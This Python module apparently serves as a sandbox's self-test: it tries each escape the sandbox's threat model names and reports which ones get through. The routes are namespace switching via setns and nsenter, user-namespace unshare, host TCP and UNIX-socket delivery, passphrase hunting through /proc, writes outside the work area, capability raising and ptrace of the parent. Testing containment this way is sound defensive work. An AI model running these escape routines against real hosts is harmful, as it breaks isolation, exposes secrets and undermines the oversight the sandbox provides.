"""Hostile code for the sandbox's self-test (probe job `escape`): every way out that the
threat model names, tried from inside the sandbox through the trainer's own entry point.

Each attempt reports `escaped` (true only when it demonstrably got through: a byte reached
the host listener, a secret was read, a file was created) and what happened. The parent
names its targets: a TCP listener on the host's 127.0.0.1, a filesystem and an abstract
UNIX socket it listens on, the passphrase file, a path outside the work area, and its own
PID (to find /proc/<pid>/ns/net and to ptrace it).
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import os
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

Emit = Callable[..., None]
CLONE_NEWNET, CLONE_NEWUSER, CLONE_NEWNS = 0x40000000, 0x10000000, 0x00020000
PTRACE_SEIZE, PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN = 0x4206, 47, 2, 21
PAYLOAD = b"record: Jane Roe, 221B Baker Street"


def _libc() -> ctypes.CDLL:
    return ctypes.CDLL(None, use_errno=True)


def _err() -> str:
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def _deliver_tcp(host: str, port: int) -> tuple[bool, str]:
    try:
        with socket.create_connection((host, port), timeout=3) as sock:
            sock.sendall(PAYLOAD)
        return True, "delivered to the host listener"
    except OSError as exc:
        return False, f"{type(exc).__name__}: {errno.errorcode.get(exc.errno or 0, exc)}"


def tcp_host_loopback(job: dict[str, Any]) -> tuple[bool, str]:
    """TCP to the host's 127.0.0.1 listener."""
    return _deliver_tcp(job["host"], int(job["port"]))


def setns_parent_net(job: dict[str, Any]) -> tuple[bool, str]:
    """setns() into the parent's network namespace through /proc/<ppid>/ns/net (and
    /proc/1's), then TCP to the host listener."""
    libc = _libc()
    tried = []
    for pid in (int(job["parent_pid"]), os.getppid(), 1):
        path = f"/proc/{pid}/ns/net"
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError as exc:
            tried.append(f"{path}: {errno.errorcode.get(exc.errno or 0, exc)}")
            continue
        try:
            if libc.setns(fd, CLONE_NEWNET) != 0:
                tried.append(f"setns {path}: {_err()}")
                continue
        finally:
            os.close(fd)
        delivered, detail = _deliver_tcp(job["host"], int(job["port"]))
        if delivered:
            return True, f"setns {path} then {detail}"
        tried.append(f"setns {path} succeeded, then {detail}")
    return False, "; ".join(tried)


def nsenter_parent_net(job: dict[str, Any]) -> tuple[bool, str]:
    """nsenter --net=/proc/<ppid>/ns/net, then TCP to the host listener from there."""
    address = (str(job["host"]), int(job["port"]))
    code = (f"import socket;s=socket.create_connection({address!r},timeout=3);"
            "s.sendall(b'nsenter');print('delivered')")
    try:
        done = subprocess.run(["nsenter", f"--net=/proc/{int(job['parent_pid'])}/ns/net",
                               "--", sys.executable, "-c", code], capture_output=True,
                              text=True, timeout=30, check=False)
    except (OSError, subprocess.TimeoutExpired) as exc:
        return False, f"nsenter: {exc}"
    if "delivered" in done.stdout:
        return True, "nsenter then delivered to the host listener"
    return False, (done.stderr.strip().splitlines() or ["?"])[-1][:200]


def unshare_user(job: dict[str, Any]) -> tuple[bool, str]:  # noqa: ARG001 - one signature for every escape
    """unshare() a new user namespace (to gain capabilities there), directly and by the
    unshare command."""
    libc = _libc()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
        return True, "unshare(CLONE_NEWUSER) succeeded"
    direct = f"unshare(): {_err()}"
    try:
        done = subprocess.run(["unshare", "--user", "--map-root-user", "true"],
                              capture_output=True, text=True, timeout=30, check=False)
    except (OSError, subprocess.TimeoutExpired) as exc:
        return False, f"{direct}; unshare command: {exc}"
    if done.returncode == 0:
        return True, "the unshare command made a user namespace"
    return False, f"{direct}; unshare command: {done.stderr.strip()[:150]}"


def _unix_connect(address: str | bytes) -> tuple[bool, str]:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(3)
            sock.connect(address)
            sock.sendall(PAYLOAD)
        return True, "delivered to the host's UNIX socket"
    except OSError as exc:
        return False, f"{type(exc).__name__}: {errno.errorcode.get(exc.errno or 0, exc)}"


def unix_filesystem(job: dict[str, Any]) -> tuple[bool, str]:
    """AF_UNIX connect to a filesystem socket a host process listens on."""
    return _unix_connect(job["unix_path"])


def unix_abstract(job: dict[str, Any]) -> tuple[bool, str]:
    """AF_UNIX connect to an abstract socket a host process listens on."""
    return _unix_connect(b"\0" + job["abstract"].encode())


def read_passphrase(job: dict[str, Any]) -> tuple[bool, str]:
    """Read the passphrase file by its path, and look for its name in every visible
    process's command line and environment."""
    found = []
    with contextlib.suppress(OSError):
        if Path(job["passphrase_file"]).read_bytes():
            return True, "read the passphrase file"
    for proc in Path("/proc").iterdir():
        for name in ("cmdline", "environ"):
            with contextlib.suppress(OSError):
                if job["passphrase_file"].encode() in (proc / name).read_bytes():
                    found.append(f"{proc.name}/{name}")
    if found:
        return True, f"the passphrase file's path is in /proc/{', '.join(found)}"
    return False, f"{job['passphrase_file']} does not exist here; its path is in no process"


def write_outside(job: dict[str, Any]) -> tuple[bool, str]:
    """Create files outside the work area: the parent's chosen path, and under the
    virtualenv (read-only)."""
    made, refused = [], []
    for target in (Path(job["outside"]), Path(sys.prefix) / "escape.txt"):
        try:
            target.write_bytes(PAYLOAD)
            made.append(str(target))
        except OSError as exc:
            refused.append(f"{target}: {errno.errorcode.get(exc.errno or 0, exc)}")
    if made:
        return True, f"wrote {', '.join(made)}"
    return False, "; ".join(refused)


def raise_capabilities(job: dict[str, Any]) -> tuple[bool, str]:  # noqa: ARG001 - one signature for every escape
    """Raise CAP_SYS_ADMIN into the ambient set; success if any effective capability."""
    libc = _libc()
    rc = libc.prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0)
    detail = f"ambient raise: {'ok' if rc == 0 else _err()}"
    status = Path("/proc/self/status").read_text()
    eff = next(ln.split()[1] for ln in status.splitlines() if ln.startswith("CapEff:"))
    return int(eff, 16) != 0, f"{detail}; CapEff {eff}"


def ptrace_parent(job: dict[str, Any]) -> tuple[bool, str]:
    """ptrace(PTRACE_SEIZE) the parent (by its host PID and by our own parent); SEIZE does
    not stop the tracee, and the kernel detaches it when this process ends."""
    libc = _libc()
    libc.ptrace.restype = ctypes.c_long
    tried = []
    for pid in (int(job["parent_pid"]), os.getppid()):
        if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
            return True, f"attached to {pid}"
        tried.append(f"{pid}: {_err()}")
    return False, "; ".join(tried)


ATTEMPTS: dict[str, Callable[[dict[str, Any]], tuple[bool, str]]] = {
    "tcp_host_loopback": tcp_host_loopback, "setns_parent_net": setns_parent_net,
    "nsenter_parent_net": nsenter_parent_net, "unshare_user": unshare_user,
    "unix_filesystem": unix_filesystem, "unix_abstract": unix_abstract,
    "read_passphrase": read_passphrase, "write_outside": write_outside,
    "raise_capabilities": raise_capabilities, "ptrace_parent": ptrace_parent,
}


def run(job: dict[str, Any], emit: Emit) -> None:
    """Try every escape, emitting one `escape` event each."""
    for name, attempt in ATTEMPTS.items():
        try:
            escaped, detail = attempt(job)
        except Exception as exc:
            escaped, detail = False, f"{type(exc).__name__}: {exc}"[:200]
        emit("escape", attempt=name, escaped=escaped, detail=detail)
